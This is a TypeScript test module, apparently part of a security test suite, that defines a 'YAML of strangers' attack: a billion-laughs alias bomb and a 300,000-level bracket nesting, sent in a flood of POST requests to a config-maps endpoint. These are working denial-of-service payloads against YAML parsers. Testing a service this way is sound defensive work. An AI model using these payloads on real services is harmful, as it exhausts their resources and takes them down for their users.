import { type Attack, configMaps, flood } from "../attack.ts";

/** Each alias stands for ten of those before: ten lines for ten thousand million. */
const bomb = `a0: &a0 x\n${Array.from({ length: 10 }, (_none, index) => {
  const of = Array.from({ length: 10 }, () => `*a${index}`).join(", ");
  return `a${index + 1}: &a${index + 1} [${of}]\n`;
}).join("")}`;
const nested = "[".repeat(300_000);

/** YAML that takes long to read, from somebody who may not even ask. */
export const yamlOfStrangers: Attack = {
  name: "YAML of strangers",
  who: "stranger",
  run: (attacker) =>
    flood(attacker, {
      who: "stranger",
      width: 8,
      ask: (index) => ({
        method: "POST",
        path: configMaps,
        headers: { "content-type": "application/yaml" },
        body: index % 2 === 0 ? bomb : nested,
      }),
    }),
};
